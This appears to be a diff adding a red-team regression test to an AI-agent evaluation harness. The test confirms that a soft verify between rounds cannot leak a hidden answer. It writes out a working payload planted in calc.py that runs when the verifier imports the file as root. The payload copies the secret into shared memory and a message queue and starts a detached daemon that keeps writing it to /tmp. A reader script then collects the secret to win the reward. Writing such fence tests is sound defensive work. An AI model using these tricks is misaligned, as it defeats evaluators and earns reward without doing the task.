@@ -1,0 +1,101 @@
+"""Red team: a soft verify between trial rounds leaves nothing in the kernel for round 2 (issue 32).
+
+The trial is test_soft_verify_fence's (a task whose answer only its verifier holds, whose
+verifier imports the agent's ``calc``). Round 1's "agent" (the oracle running solve.sh) plants
+an import-time payload in ``calc.py``; the soft verify after round 1 imports it as root, with
+the hidden answer at hand. The payload puts the
+answer where the fence's file restore and process kill do not look: a System V shared-memory
+segment, a POSIX message queue (both mode 0666, in the sandbox's IPC namespace) and a detached
+daemon (new session) that keeps offering it in ``/tmp``. Round 2's agent attaches to the segment,
+opens the queue and reads ``/tmp``: before the verify ran in namespaces of its own
+(`reroll_sidecar.verify_ns`) it read the answer from the segment and the final reward was 1.0;
+now it finds nothing and the reward is 0.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.security.test_soft_verify_fence import make_trial, run_trial
+
+pytestmark = pytest.mark.slow
+
+PAYLOAD = r"""
+import ctypes, os, subprocess
+_verifier = os.environ.get("REROLL_VERIFIER_DIR", "/verifier")
+if os.path.isdir(_verifier) and os.geteuid() == 0:
+    _secret = open(os.path.join(_verifier, "secret.txt")).read().strip().encode()
+    _libc = ctypes.CDLL(None, use_errno=True)
+    _libc.shmat.restype = ctypes.c_void_p
+    os.umask(0)
+    _id = _libc.shmget(0x52524F4C, 4096, 0o1666)
+    ctypes.memmove(_libc.shmat(_id, None, 0), _secret, len(_secret))
+    _libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
+    _queue = _libc.mq_open(b"/reroll-leak", os.O_CREAT | os.O_RDWR, 0o666, None)
+    _sent = _libc.mq_send(_queue, _secret, len(_secret), 0)
+    print(f"PAYLOAD RAN: shm {_id}, mqueue {_queue}/{_sent}", flush=True)
+    _daemon = f"sleep 2; while true; do echo {_secret.decode()} > /tmp/late-secret; sleep 0.2; done"
+    subprocess.Popen(["setsid", "sh", "-c", f"sh -c '{_daemon}' >/dev/null 2>&1 &"])
+
+
+def mean(values):
+    return sum(values) / len(values)
+"""
+
+READER = r"""
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+found = []
+shm = libc.shmget(0x52524F4C, 0, 0)
+if shm >= 0:
+    address = libc.shmat(shm, None, 0o10000)
+    if address not in (None, ctypes.c_void_p(-1).value):
+        found.append(("shm", ctypes.string_at(address, 60).split(b"\0")[0].decode()))
+libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int]
+queue = libc.mq_open(b"/reroll-leak", os.O_RDONLY | os.O_NONBLOCK)
+if queue >= 0:
+    buffer = ctypes.create_string_buffer(1 << 16)
+    size = libc.mq_receive(queue, buffer, 1 << 16, None)
+    if size > 0:
+        found.append(("mqueue", buffer.raw[:size].decode()))
+try:
+    found.append(("tmp", open("/tmp/late-secret").read().strip()))
+except OSError:
+    pass
+for where, secret in found:
+    print(f"FOUND in {where}: {secret}")
+    open("answer.txt", "w").write(secret)
+if not found:
+    print("FOUND NOTHING")
+"""
+
+SOLVE = """#!/bin/sh
+cd "${REROLL_WORKSPACE:-/app}"
+if [ ! -f .round1-done ]; then
+  cat > calc.py <<'PAYLOAD_END'
+@PAYLOAD@
+PAYLOAD_END
+  touch .round1-done
+  exit 0
+fi
+sleep 4  # the daemon, were it alive, has written the secret by now
+python3 - <<'READER_END'
+@READER@
+READER_END
+exit 0
+""".replace("@PAYLOAD@", PAYLOAD.strip()).replace("@READER@", READER.strip())
+
+
+def test_round_two_finds_no_ipc_object_or_daemon_of_the_soft_verify(
+    sandbox_backend: str, tmp_path: Path
+) -> None:
+    run, result = run_trial(make_trial(tmp_path, SOLVE), sandbox_backend, tmp_path)
+    soft = run / "verifier" / "rounds" / "0"
+    assert "PAYLOAD RAN: shm" in (soft / "test-stdout.txt").read_text(), "the attack did not run"
+    agent_output = "".join(p.read_text(errors="replace") for p in (run / "agent").rglob("*") if p.is_file())
+    assert "FOUND NOTHING" in agent_output and "FOUND in" not in agent_output, agent_output[-3000:]
+    assert result["status"] == "ok", result.get("error")
+    assert result["rewards"] == {"reward": 0.0}
